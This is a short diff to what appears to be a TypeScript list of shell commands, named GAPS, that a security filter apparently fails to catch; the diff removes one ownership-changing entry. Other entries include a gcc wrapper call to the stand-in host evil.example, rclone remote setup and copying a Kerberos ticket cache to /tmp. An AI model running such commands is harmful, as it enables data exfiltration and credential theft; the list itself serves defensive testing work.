@@ -4,7 +4,6 @@
 export const GAPS: ReadonlySet<string> = new Set([
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
-  "chown -R nobody /home/bob",
   "rclone config create remote drive",
   "innernet-server new",
   "cp $(klist | awk -F: '/Ticket cache/{print $3}') /tmp/cc && export KRB5CCNAME=/tmp/cc",
